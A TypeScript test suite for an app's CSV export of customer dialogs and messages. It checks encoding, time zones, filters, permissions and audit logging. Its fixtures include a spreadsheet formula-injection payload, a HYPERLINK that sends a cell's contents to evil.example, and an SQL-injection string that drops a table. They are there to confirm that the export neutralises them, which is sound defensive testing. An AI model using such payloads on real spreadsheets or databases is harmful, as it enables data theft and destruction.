import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import type { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { unneutraliseCell } from '../core/csv.js';
import { ValidationError } from '../core/errors.js';
import { ExportQuery, LogListQuery } from '../core/log-query.js';
import { zoneOffsetMinutes } from '../core/time.js';
import type { Store } from '../store/open.js';
import type { ChannelType } from '../store/types.js';
import { insertDialog } from '../testing/fixtures.js';
import { createProject, createUser, forEachStore, projectContext } from '../testing/harness.js';
import type { Actor, ProjectContext } from './context.js';
import {
  DIALOG_CHUNK,
  DIALOG_COLUMNS,
  type ExportOptions,
  exportLog,
  lfToCrlf,
  MESSAGE_COLUMNS,
  makeExportTimeFormatter,
} from './export-dialogs.js';
import { listLog } from './list-log.js';

// ---------------------------------------------------------------------------------------------
// Helpers

async function readAll(stream: Readable): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const p of stream) parts.push(Buffer.isBuffer(p) ? p : Buffer.from(p as string));
  return Buffer.concat(parts);
}

type Column = (typeof DIALOG_COLUMNS)[number] | (typeof MESSAGE_COLUMNS)[number];
interface Csv {
  raw: Buffer;
  header: string[];
  rows: Record<Column, string>[];
}

/** Parses an export the way a program would: a real CSV parser, BOM handled, CRLF records only. */
function parseCsv(raw: Buffer, delimiter: ';' | ',' = ';'): Csv {
  assert.deepEqual([...raw.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'starts with the UTF-8 BOM');
  const records = parse(raw, { bom: true, delimiter, record_delimiter: '\r\n' }) as string[][];
  const [header, ...data] = records;
  assert.ok(header);
  for (const r of data) assert.equal(r.length, header.length, `every record has ${header.length} fields`);
  const rows = data.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? ''])) as Record<Column, string>);
  return { raw, header, rows };
}

async function exportCsv(ctx: ProjectContext, query: Record<string, unknown>, opts?: ExportOptions) {
  const q = ExportQuery.parse(query);
  const h = await exportLog(ctx, q, opts);
  const raw = await readAll(h.stream);
  const result = await h.done;
  return { csv: parseCsv(raw, q.delimiter), result, handle: h };
}

/** The ids the Message log lists for these filters, paging through every page. */
async function listedIds(ctx: ProjectContext, filters: Record<string, unknown>): Promise<number[]> {
  const ids: number[] = [];
  let cursor: string | undefined;
  for (;;) {
    const page = await listLog(ctx, LogListQuery.parse({ ...filters, limit: 3, ...(cursor ? { cursor } : {}) }));
    ids.push(...page.items.map((d) => d.id));
    if (!page.nextCursor) return ids;
    cursor = page.nextCursor;
  }
}

async function createNamedChannel(store: Store, projectId: number, type: ChannelType, name: string) {
  const now = Date.now();
  const row = await store.db
    .insertInto('channels')
    .values({ project_id: projectId, type, name, created_at: now, updated_at: now })
    .returning('id')
    .executeTakeFirstOrThrow();
  return row.id;
}

/** Many dialogs at once (a multi-row INSERT per 500), with only what the export reads. */
async function bulkDialogs(store: Store, projectId: number, channelId: number, n: number, start: number) {
  const rows = Array.from({ length: n }, (_, i) => ({
    project_id: projectId,
    channel_id: channelId,
    channel_type: 'telegram' as const,
    client_id: i + 1,
    identity_id: i + 1,
    client_name: `Klient ${i} Łódź`,
    search_text: `klient ${i}`,
    status: (i % 4 === 0 ? 'new' : 'closed') as 'new' | 'closed',
    manager_sort: '',
    // Some share a created_at, so the keyset's tie-break on id is exercised across chunk borders.
    created_at: start + Math.floor(i / 3) * 60_000,
    updated_at: start,
    closed_at: i % 4 === 0 ? null : start + i * 60_000 + 1000,
    outbound_only: 0,
    messages_in: i % 10 === 0 ? 1 : 0,
    messages_out: 0,
    unread_count: 0,
  }));
  for (let i = 0; i < rows.length; i += 500)
    await store.db
      .insertInto('dialogs')
      .values(rows.slice(i, i + 500))
      .execute();
  const ids = await store.db
    .selectFrom('dialogs')
    .select('id')
    .where('project_id', '=', projectId)
    .where('messages_in', '=', 1)
    .orderBy('id')
    .execute();
  const msgs = ids.map((d, i) => ({
    project_id: projectId,
    dialog_id: d.id,
    channel_id: channelId,
    direction: 'in' as const,
    author_type: 'client' as const,
    text: `wiadomość ${i}; "cytat"`,
    created_at: start + i,
    status: 'received' as const,
    updated_at: start + i,
  }));
  for (let i = 0; i < msgs.length; i += 500)
    await store.db
      .insertInto('messages')
      .values(msgs.slice(i, i + 500))
      .execute();
}

// ---------------------------------------------------------------------------------------------
// Pure helpers

test('makeExportTimeFormatter writes what Intl says, in every zone, across DST changes', () => {
  const exact = (tz: string) => (ms: number) => {
    const off = zoneOffsetMinutes(ms, tz);
    const abs = Math.abs(off);
    const sign = off < 0 ? '-' : '+';
    const hh = String(Math.floor(abs / 60)).padStart(2, '0');
    const mm = String(abs % 60).padStart(2, '0');
    return `${new Date(ms + off * 60_000).toISOString().slice(0, 19)}${sign}${hh}:${mm}`;
  };
  const zones = [
    'Europe/Warsaw',
    'America/New_York',
    'Asia/Kathmandu',
    'America/St_Johns',
    'Australia/Lord_Howe',
    'UTC',
  ];
  let seed = 7;
  const next = () => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    return seed / 2 ** 32;
  };
  for (const tz of zones) {
    const ours = makeExportTimeFormatter(tz);
    const truth = exact(tz);
    // Around Warsaw's 2026 changes, minute by minute, and at random over five decades.
    for (let t = Date.UTC(2026, 2, 29, 0, 0); t < Date.UTC(2026, 2, 29, 2, 0); t += 59_999)
      assert.equal(ours(t), truth(t), tz);
    for (let t = Date.UTC(2026, 9, 25, 0, 0); t < Date.UTC(2026, 9, 25, 2, 0); t += 59_999)
      assert.equal(ours(t), truth(t), tz);
    for (let i = 0; i < 3000; i++) {
      const t = Math.floor(Date.UTC(1990, 0, 1) + next() * 50 * 365 * 86_400_000);
      assert.equal(ours(t), truth(t), `${tz} ${t}`);
    }
  }
  const warsaw = makeExportTimeFormatter('Europe/Warsaw');
  assert.equal(warsaw(Date.UTC(2026, 0, 15, 10, 0, 0, 999)), '2026-01-15T11:00:00+01:00');
  assert.equal(warsaw(Date.UTC(2026, 6, 15, 10, 0, 0)), '2026-07-15T12:00:00+02:00');
});

test('lfToCrlf ends records with CRLF and leaves line breaks inside quoted fields alone', () => {
  const input = Buffer.from('1;"a\nb";"say ""hi""\n"\n2;plain;""\n3;"x";"\n"\n');
  assert.equal(lfToCrlf(input).toString(), '1;"a\nb";"say ""hi""\n"\r\n2;plain;""\r\n3;"x";"\n"\r\n');
  assert.equal(lfToCrlf(Buffer.from('')).toString(), '');
  assert.throws(() => lfToCrlf(Buffer.from('1;"open\n')), /quoted/);
});

// ---------------------------------------------------------------------------------------------
// Exports over tricky rows, on both stores

const TRICKY_NAME = 'Zażółć "gęślą"; jaźń, ĄĆĘŁŃÓŚŹŻ ąćęłńóśźż 🚲👍🏽';
const CLOSE_REASON = 'Załatwione;\n"OK", dzięki\r\nkoniec';
const T = {
  winter: Date.UTC(2026, 0, 15, 10, 0, 0),
  summer: Date.UTC(2026, 6, 15, 10, 0, 0),
  // Warsaw's spring change on 2026-03-29: 01:30 local is +01:00, 03:30 local is +02:00.
  beforeDst: Date.UTC(2026, 2, 29, 0, 30, 0),
  afterDst: Date.UTC(2026, 2, 29, 1, 30, 0),
};

forEachStore('export of the Message log', (env) => {
  let store: Store;
  let projectId: number;
  let foreignId: number;
  let bulkProjectId: number;
  const users = { a: 0, b: 0 };
  const d = { tricky: 0, sms: 0, open: 0, new: 0, transferred: 0, onlyB: 0, unanswered: 0, foreign: 0 };
  let system: ProjectContext;
  let managerA: ProjectContext;

  before(async () => {
    store = env.ts.store;
    projectId = await createProject(store, 'Sklep rowerowy');
    foreignId = await createProject(store, 'Obcy');
    users.a = (await createUser(store, projectId, 'manager', 'Anna Kowalska')).id;
    users.b = (await createUser(store, projectId, 'manager', 'Bartosz Żak')).id;
    const tg = await createNamedChannel(store, projectId, 'telegram', 'Telegram: "Sklep"; @bot, główny');
    const sms = await createNamedChannel(store, projectId, 'sms', '=SMS bramka');
    const base = { projectId, channelId: tg };
    d.tricky = (
      await insertDialog(store, {
        ...base,
        status: 'closed',
        managerId: users.a,
        createdAt: T.winter,
        clientName: TRICKY_NAME,
        clientHandle: 'zazolc_gesla',
        closeReason: CLOSE_REASON,
        attribution: {
          source: 'google',
          utm_source: '=HYPERLINK("https://evil.example/?d="&A1;"Kliknij")',
          utm_medium: '+cpc',
          utm_campaign: '-wiosna',
          utm_term: '@rower',
          utm_content: '\tTAB',
          referrer: 'https://www.google.com/search?q=rower;elektryczny,tani',
          landing_url: 'https://sklep.pl/?a=1&b="2"',
          click_ids: 'gclid=abc',
          channel_group: 'Paid Search',
        },
        messages: [
          { direction: 'in', text: 'Dzień dobry;\n"cytat", 🚀 ąę', at: T.winter + 1000 },
          { direction: 'out', text: '-5 zł rabatu', at: T.winter + 61_000 },
          { direction: 'in', text: '@here =SUM(A1)', at: T.winter + 121_000 },
          { direction: 'out', text: '\rCR na początku', at: T.winter + 181_000, authorType: 'auto' },
        ],
      })
    ).id;
    d.sms = (
      await insertDialog(store, {
        projectId,
        channelId: sms,
        status: 'closed',
        managerId: users.b,
        createdAt: T.summer,
        clientName: 'Jan Nowak',
        clientPhone: '+48600100200',
        messages: [
          { direction: 'in', text: 'Kiedy dostawa?', at: T.summer + 1000 },
          { direction: 'out', text: 'Jutro, 8–16.', at: T.summer + 2000, status: 'failed' },
        ],
      })
    ).id;
    d.open = (
      await insertDialog(store, {
        ...base,
        status: 'open',
        managerId: users.a,
        createdAt: Date.UTC(2026, 1, 1),
        clientName: 'Otwarty',
      })
    ).id;
    d.new = (
      await insertDialog(store, { ...base, status: 'new', createdAt: Date.UTC(2026, 1, 2), clientName: 'Nowy' })
    ).id;
    d.transferred = (
      await insertDialog(store, {
        ...base,
        status: 'closed',
        managerId: users.b,
        previousManagerIds: [users.a],
        createdAt: T.afterDst,
        clientName: 'Przekazany',
        messages: [{ direction: 'in', text: 'Halo', at: T.afterDst + 5000 }],
      })
    ).id;
    d.onlyB = (
      await insertDialog(store, {
        ...base,
        status: 'closed',
        managerId: users.b,
        createdAt: T.beforeDst,
        clientName: 'Tylko Bartosza',
        messages: [{ direction: 'in', text: 'Prywatne', at: T.beforeDst + 5000 }],
      })
    ).id;
    d.unanswered = (
      await insertDialog(store, {
        ...base,
        status: 'closed',
        managerId: null,
        createdAt: Date.UTC(2026, 3, 10),
        clientName: 'Bez odpowiedzi',
        messages: [{ direction: 'in', text: 'Czy ktoś tu jest?', at: Date.UTC(2026, 3, 10, 0, 0, 1) }],
      })
    ).id;
    d.foreign = (
      await insertDialog(store, {
        projectId: foreignId,
        channelType: 'telegram',
        status: 'closed',
        createdAt: T.winter + 5,
        clientName: 'Obcy klient',
        messages: [{ direction: 'in', text: 'Nie dla was', at: T.winter + 10 }],
      })
    ).id;
    system = projectContext(store, projectId, { type: 'system', name: 'test' });
    const mgr: Actor = { type: 'user', id: users.a, name: 'Anna Kowalska', role: 'manager' };
    managerA = projectContext(store, projectId, mgr);
  });

  test('dialogs.csv: BOM, header, CRLF records, and every tricky cell comes back exactly', async () => {
    const { csv, result } = await exportCsv(system, { status: 'all' });
    assert.deepEqual(csv.header, [...DIALOG_COLUMNS]);
    assert.ok(
      csv.raw
        .subarray(3)
        .toString('utf8')
        .startsWith(`${DIALOG_COLUMNS.join(';')}\r\n`),
    );
    // Newest first, the foreign project's dialog nowhere.
    assert.deepEqual(
      csv.rows.map((r) => Number(r.id)),
      [d.sms, d.unanswered, d.transferred, d.onlyB, d.new, d.open, d.tricky],
    );
    assert.equal(result.rows, 7);
    assert.equal(result.outcome, 'completed');

    const row = csv.rows.find((r) => Number(r.id) === d.tricky)!;
    assert.equal(row.client_name, TRICKY_NAME);
    assert.equal(row.close_reason, CLOSE_REASON);
    assert.equal(row.created_at, '2026-01-15T11:00:00+01:00');
    assert.equal(row.status, 'closed');
    assert.equal(row.channel, 'telegram');
    assert.equal(row.channel_account, 'Telegram: "Sklep"; @bot, główny');
    assert.match(row.client_messenger_id ?? '', /^fixture-\d+-\d+$/, 'the client’s id on the platform');
    assert.equal(row.client_handle, 'zazolc_gesla');
    assert.equal(row.client_phone, '');
    assert.equal(row.manager, 'Anna Kowalska');
    assert.equal(row.closed_by, 'Anna Kowalska');
    assert.equal(row.last_responder_type, 'client');
    assert.equal(row.last_responder, TRICKY_NAME);
    assert.equal(row.messages_in, '2');
    assert.equal(row.messages_out, '2');
    assert.equal(row.first_response_seconds, '60');
    assert.equal(row.source, 'google');
    // Formula cells are neutralised with a leading quote; the rest of the value is intact.
    assert.equal(row.utm_source, `'=HYPERLINK("https://evil.example/?d="&A1;"Kliknij")`);
    assert.equal(row.utm_medium, "'+cpc");
    assert.equal(row.utm_campaign, "'-wiosna");
    assert.equal(row.utm_term, "'@rower");
    assert.equal(row.utm_content, "'\tTAB");
    assert.equal(row.referrer, 'https://www.google.com/search?q=rower;elektryczny,tani');
    assert.equal(row.landing_page, 'https://sklep.pl/?a=1&b="2"');
    assert.equal(row.click_ids, 'gclid=abc');
    assert.equal(row.channel_group, 'Paid Search');
    assert.ok(Date.parse(row.closed_at!) > T.winter);

    const sms = csv.rows.find((r) => Number(r.id) === d.sms)!;
    assert.equal(sms.created_at, '2026-07-15T12:00:00+02:00', 'summer time in Warsaw');
    assert.equal(sms.channel_account, "'=SMS bramka", 'a channel name is a cell like any other');
    assert.equal(sms.client_phone, "'+48600100200", 'phones are neutralised too (policy in core/csv.ts)');
    assert.equal(sms.client_messenger_id, '', 'SMS clients are identified by client_phone');
    assert.equal(sms.client_handle, '');
    assert.equal(csv.rows.find((r) => Number(r.id) === d.onlyB)!.created_at, '2026-03-29T01:30:00+01:00');
    assert.equal(csv.rows.find((r) => Number(r.id) === d.transferred)!.created_at, '2026-03-29T03:30:00+02:00');
    const unanswered = csv.rows.find((r) => Number(r.id) === d.unanswered)!;
    assert.equal(unanswered.manager, '');
    assert.equal(unanswered.closed_by, '');
    assert.equal(unanswered.first_response_seconds, '');
    const open = csv.rows.find((r) => Number(r.id) === d.open)!;
    assert.equal(open.closed_at, '');
  });

  test('dialogs.csv with "," as the delimiter quotes the commas and keeps the semicolons bare', async () => {
    const { csv } = await exportCsv(system, { status: 'all', delimiter: ',' });
    const row = csv.rows.find((r) => Number(r.id) === d.tricky)!;
    assert.equal(row.client_name, TRICKY_NAME);
    assert.equal(row.referrer, 'https://www.google.com/search?q=rower;elektryczny,tani');
    assert.equal(row.channel_account, 'Telegram: "Sklep"; @bot, główny');
    const text = csv.raw.toString('utf8');
    assert.ok(text.includes(`,"https://www.google.com/search?q=rower;elektryczny,tani",`));
    assert.ok(text.startsWith(`\uFEFF${DIALOG_COLUMNS.join(',')}\r\n`));
  });

  test('timestamps carry the offset of the project zone, whatever it is', async () => {
    const ny = projectContext(store, projectId, { type: 'system', name: 'test' }, 'America/New_York');
    const { csv } = await exportCsv(ny, { status: 'all' });
    assert.equal(csv.rows.find((r) => Number(r.id) === d.tricky)!.created_at, '2026-01-15T05:00:00-05:00');
    assert.equal(csv.rows.find((r) => Number(r.id) === d.sms)!.created_at, '2026-07-15T06:00:00-04:00');
    const { csv: messages } = await exportCsv(ny, { status: 'all', kind: 'messages' });
    assert.equal(messages.rows.find((r) => Number(r.dialog_id) === d.tricky)!.created_at, '2026-01-15T05:00:01-05:00');
  });

  test('messages.csv: one row per message of the filtered dialogs, in the list order, texts intact', async () => {
    const { csv, result } = await exportCsv(system, { kind: 'messages' });
    assert.deepEqual(csv.header, [...MESSAGE_COLUMNS]);
    // Default filter: closed dialogs, newest first; each dialog's messages oldest first.
    assert.deepEqual(
      csv.rows.map((r) => Number(r.dialog_id)),
      [d.sms, d.sms, d.unanswered, d.transferred, d.onlyB, d.tricky, d.tricky, d.tricky, d.tricky],
    );
    assert.equal(result.rows, 9);
    assert.equal(result.dialogs, 5);
    const tricky = csv.rows.filter((r) => Number(r.dialog_id) === d.tricky);
    assert.deepEqual(
      tricky.map((r) => r.text),
      ['Dzień dobry;\n"cytat", 🚀 ąę', "'-5 zł rabatu", "'@here =SUM(A1)", "'\rCR na początku"],
    );
    assert.deepEqual(
      tricky.map((r) => [r.direction, r.author_type, r.author_name, r.status]),
      [
        ['in', 'client', TRICKY_NAME, 'delivered'],
        ['out', 'manager', 'Anna Kowalska', 'delivered'],
        ['in', 'client', TRICKY_NAME, 'delivered'],
        ['out', 'auto', 'Auto-reply', 'delivered'],
      ],
    );
    assert.equal(tricky[0]!.created_at, '2026-01-15T11:00:01+01:00');
    const ids = tricky.map((r) => Number(r.message_id));
    assert.deepEqual(
      ids,
      [...ids].sort((a, b) => a - b),
    );
    assert.equal(csv.rows.find((r) => r.text === 'Jutro, 8–16.')!.status, 'failed');
    assert.ok(!csv.rows.some((r) => r.text === 'Nie dla was'), 'never a foreign message');
  });

  test('the exported set is exactly what the list shows, for every filter and both sorts', async () => {
    const filterSets: Record<string, unknown>[] = [
      {},
      { status: 'all' },
      { status: 'new' },
      { status: 'open' },
      { status: 'all', managerId: [String(users.a)] },
      { status: 'all', managerId: [String(users.a), String(users.b)], channel: ['sms'] },
      { from: '2026-03-29', to: '2026-03-29' },
      { status: 'all', from: '2026-01-01', to: '2026-02-01' },
      { status: 'all', sort: 'manager' },
      { status: 'all', sort: 'manager', order: 'desc' },
      { status: 'all', order: 'asc' },
      { status: 'all', q: 'gęślą' },
      { status: 'all', q: '600100' },
      { status: 'all', source: 'google' },
      { status: 'all', source: 'Paid Search' },
    ];
    for (const ctx of [system, managerA]) {
      for (const filters of filterSets) {
        const { csv } = await exportCsv(ctx, filters, { chunkSize: 2 });
        const { csv: messages } = await exportCsv(ctx, { ...filters, kind: 'messages' }, { chunkSize: 2 });
        const listed = await listedIds(ctx, filters);
        const label = `${ctx.actor.name} ${JSON.stringify(filters)}`;
        assert.deepEqual(
          csv.rows.map((r) => Number(r.id)),
          listed,
          label,
        );
        const withMessages = [...new Set(messages.rows.map((r) => Number(r.dialog_id)))];
        assert.deepEqual(
          withMessages,
          listed.filter((id) => withMessages.includes(id)),
          `messages ${label}`,
        );
      }
    }
  });

  test("a manager's export holds only the dialogs that manager may see", async () => {
    const { csv } = await exportCsv(managerA, { status: 'all' });
    const ids = csv.rows.map((r) => Number(r.id)).sort((a, b) => a - b);
    assert.deepEqual(
      ids,
      [d.tricky, d.open, d.new, d.transferred, d.unanswered].sort((a, b) => a - b),
    );
    const { csv: messages } = await exportCsv(managerA, { status: 'all', kind: 'messages' });
    assert.ok(!messages.rows.some((r) => r.text === 'Prywatne' || r.text === 'Kiedy dostawa?'));
  });

  test('each export is written to the audit log with its actor, filters and row count', async () => {
    const before = await store.db.selectFrom('audit_log').select('id').where('project_id', '=', projectId).execute();
    await exportCsv(managerA, { status: 'all', channel: ['telegram'], delimiter: ',' });
    const entries = await store.db
      .selectFrom('audit_log')
      .selectAll()
      .where('project_id', '=', projectId)
      .where('id', 'not in', before.length ? before.map((b) => b.id) : [-1])
      .execute();
    assert.equal(entries.length, 1);
    const e = entries[0]!;
    assert.equal(e.action, 'export.dialogs');
    assert.equal(e.actor_type, 'user');
    assert.equal(e.actor_id, users.a);
    assert.equal(e.actor_name, 'Anna Kowalska');
    const details = JSON.parse(e.details);
    assert.equal(details.outcome, 'completed');
    assert.equal(details.rows, 5);
    assert.equal(details.kind, 'dialogs');
    assert.equal(details.delimiter, ',');
    assert.deepEqual(details.filters.channel, ['telegram']);
    assert.equal(details.filters.status, 'all');
  });

  test('bad filters are refused before a stream exists', async () => {
    await assert.rejects(
      exportLog(system, ExportQuery.parse({ from: '2026-03-02', to: '2026-03-01' })),
      (err: unknown) => err instanceof ValidationError && err.fields?.[0]?.field === 'query.to',
    );
    assert.equal(ExportQuery.safeParse({ kind: 'xlsx' }).success, false);
    assert.equal(ExportQuery.safeParse({ delimiter: '\t' }).success, false);
  });

  test('an export of many chunks (12,000 dialogs) comes out complete and in order', async () => {
    bulkProjectId = await createProject(store, 'Duży');
    const channel = await createNamedChannel(store, bulkProjectId, 'telegram', 'Bot');
    await bulkDialogs(store, bulkProjectId, channel, 12_000, Date.UTC(2026, 0, 1));
    const ctx = projectContext(store, bulkProjectId, { type: 'system', name: 'test' });
    for (const order of ['desc', 'asc'] as const) {
      const { csv, result } = await exportCsv(ctx, { status: 'all', order });
      const expected = await store.db
        .selectFrom('dialogs')
        .select('id')
        .where('project_id', '=', bulkProjectId)
        .orderBy('created_at', order)
        .orderBy('id', order)
        .execute();
      assert.equal(result.rows, 12_000);
      assert.deepEqual(
        csv.rows.map((r) => Number(r.id)),
        expected.map((e) => e.id),
        order,
      );
    }
    const { csv: closed } = await exportCsv(ctx, { sort: 'manager' });
    assert.equal(closed.rows.length, 9000);
    const { csv: messages, result } = await exportCsv(ctx, { status: 'all', kind: 'messages' });
    assert.equal(result.dialogs, 12_000);
    assert.equal(messages.rows.length, 1200);
    const order = await store.db
      .selectFrom('dialogs')
      .select('id')
      .where('project_id', '=', bulkProjectId)
      .where('messages_in', '=', 1)
      .orderBy('created_at', 'desc')
      .orderBy('id', 'desc')
      .execute();
    assert.deepEqual(
      messages.rows.map((r) => Number(r.dialog_id)),
      order.map((o) => o.id),
    );
  });

  test('a consumer that goes away midway leaves an "aborted" audit entry with the rows sent', async () => {
    // Chunks of 2,000 or 5,000 rows (0.6–1.5 MB) each fill the stream's buffer: little is read ahead.
    const bulk = projectContext(store, bulkProjectId, { type: 'system', name: 'test' });
    const h = await exportLog(bulk, ExportQuery.parse({ status: 'all' }), { chunkSize: DIALOG_CHUNK[env.kind] });
    let chunks = 0;
    await new Promise<void>((resolve) => {
      h.stream.on('data', () => {
        chunks++;
        if (chunks === 2) {
          h.stream.destroy();
          resolve();
        }
      });
    });
    const result = await h.done;
    assert.equal(result.outcome, 'aborted');
    assert.ok(result.rows >= DIALOG_CHUNK[env.kind] && result.rows < 12_000, `rows sent: ${result.rows}`);
    const last = await store.db
      .selectFrom('audit_log')
      .selectAll()
      .where('project_id', '=', bulkProjectId)
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow();
    const details = JSON.parse(last.details);
    assert.equal(details.outcome, 'aborted');
    assert.equal(details.rows, result.rows);

    // Destroyed before the first read: still one entry, with no rows.
    const h2 = await exportLog(system, ExportQuery.parse({}));
    h2.stream.destroy();
    assert.deepEqual(await h2.done, { outcome: 'aborted', rows: 0, dialogs: 0 });
  });

  test('messages.csv pages a dialog longer than a batch, and keeps whole dialogs together', async () => {
    const long = await insertDialog(store, {
      projectId,
      channelType: 'viber',
      status: 'closed',
      managerId: users.b,
      createdAt: Date.UTC(2026, 4, 1),
      clientName: 'Gaduła',
      messages: Array.from({ length: 25 }, (_, i) => ({
        direction: (i % 2 ? 'out' : 'in') as 'in' | 'out',
        text: `wiadomość nr ${i}`,
        // Pairs share an instant: the order falls back to the id.
        at: Date.UTC(2026, 4, 1, 0, 0, Math.floor(i / 2)),
      })),
    });
    try {
      const { csv } = await exportCsv(system, { kind: 'messages' }, { chunkSize: 2, messageBatch: 4 });
      const mine = csv.rows.filter((r) => Number(r.dialog_id) === long.id);
      assert.deepEqual(
        mine.map((r) => Number(r.message_id)),
        long.messageIds,
      );
      assert.deepEqual(
        mine.map((r) => r.text),
        Array.from({ length: 25 }, (_, i) => `wiadomość nr ${i}`),
      );
      const order = csv.rows.map((r) => Number(r.dialog_id));
      assert.deepEqual([...new Set(order)], [d.sms, long.id, d.unanswered, d.transferred, d.onlyB, d.tricky]);
      assert.equal(csv.rows.length, 25 + 9);
    } finally {
      await store.db.deleteFrom('messages').where('dialog_id', '=', long.id).execute();
      await store.db.deleteFrom('dialog_managers').where('dialog_id', '=', long.id).execute();
      await store.db.deleteFrom('dialogs').where('id', '=', long.id).execute();
    }
  });

  test('full-width formula characters and instants before 1970 come out the same from every producer', async () => {
    const p = await createProject(store, 'Pełna szerokość');
    const channelId = await createNamedChannel(store, p, 'telegram', '＠kanał');
    await insertDialog(store, {
      projectId: p,
      channelId,
      status: 'closed',
      createdAt: -1500,
      closedAt: 999,
      clientName: '＝SUM(1)',
      closeReason: '＋2',
      attribution: { source: '－1', utm_source: '＠x', referrer: '=a', landing_url: 'ok' },
    });
    const ctx = projectContext(store, p, { type: 'system', name: 'test' });
    const q = ExportQuery.parse({ status: 'all' });
    const first = await exportLog(ctx, q);
    assert.equal(first.producer, env.kind === 'postgres' ? 'pg-copy' : 'rows');
    const a = (await readAll(first.stream)).toString('utf8');
    const b = (await readAll((await exportLog(ctx, q, { pgCopy: false, chunkSize: 1 })).stream)).toString('utf8');
    assert.equal(a, b);
    assert.match(a, /1969-12-31T23:59:58\+00:00|1970-01-01T00:59:58\+01:00/);
    for (const cell of ["'＝SUM(1)", "'＋2", "'－1", "'＠x", "'=a"]) assert.ok(a.includes(cell), cell);
  });

  test('both ways of producing dialogs.csv write the same bytes (PostgreSQL COPY and the generic writer)', async () => {
    for (const query of [
      { status: 'all' },
      { status: 'all', delimiter: ',' },
      { sort: 'manager', q: 'gęślą' },
      { status: 'all', managerId: [String(users.a)], from: '2026-01-01T00:00:00+01:00' },
      // Written into COPY's SQL as literals: quotes and backslashes must stay data.
      { status: 'all', q: "x'); DROP TABLE dialogs; --\\" },
      { status: 'all', source: "o'brien\\'" },
      { status: 'all', q: 'Zażółć "gęślą"' },
    ]) {
      for (const ctx of [system, managerA, projectContext(store, projectId, system.actor, 'Asia/Kathmandu')]) {
        const q = ExportQuery.parse(query);
        const copyHandle = await exportLog(ctx, q, { chunkSize: 2 });
        assert.equal(copyHandle.producer, env.kind === 'postgres' ? 'pg-copy' : 'rows');
        const copy = await readAll(copyHandle.stream);
        const genericHandle = await exportLog(ctx, q, { chunkSize: 3, pgCopy: false });
        assert.equal(genericHandle.producer, 'rows');
        const generic = await readAll(genericHandle.stream);
        assert.equal(copy.toString('utf8'), generic.toString('utf8'), JSON.stringify(query));
        assert.ok(copy.length > 3);
      }
    }
  });

  test('over seeded data the export matches the store, row for row', async () => {
    let seedProject: typeof import('./seed.js').seedProject;
    try {
      ({ seedProject } = await import('./seed.js'));
    } catch {
      return; // the seeder is not there yet
    }
    const seeded = await createProject(store, 'Seeded');
    await seedProject(store, { projectId: seeded, dialogs: 400, seed: 3 });
    const ctx = projectContext(store, seeded, { type: 'system', name: 'test' });
    const { csv } = await exportCsv(ctx, { status: 'all' }, { chunkSize: 150 });
    const listed = await store.db
      .selectFrom('dialogs')
      .select(['id', 'client_name', 'messages_in', 'messages_out'])
      .where('project_id', '=', seeded)
      .orderBy('created_at', 'desc')
      .orderBy('id', 'desc')
      .execute();
    assert.deepEqual(
      csv.rows.map((r) => Number(r.id)),
      listed.map((l) => l.id),
    );
    for (const [i, l] of listed.entries()) {
      assert.equal(unneutraliseCell(csv.rows[i]!.client_name), l.client_name);
    }
    const { csv: messages, result } = await exportCsv(ctx, { status: 'all', kind: 'messages' }, { chunkSize: 150 });
    const count = await store.db
      .selectFrom('messages')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .where('project_id', '=', seeded)
      .executeTakeFirstOrThrow();
    assert.equal(messages.rows.length, Number(count.n));
    assert.equal(result.rows, Number(count.n));
    const texts = await store.db
      .selectFrom('messages')
      .select(['id', 'text'])
      .where('project_id', '=', seeded)
      .execute();
    const byId = new Map(texts.map((t) => [t.id, t.text]));
    for (const r of messages.rows) {
      assert.equal(unneutraliseCell(r.text), byId.get(Number(r.message_id)));
    }
  });
});
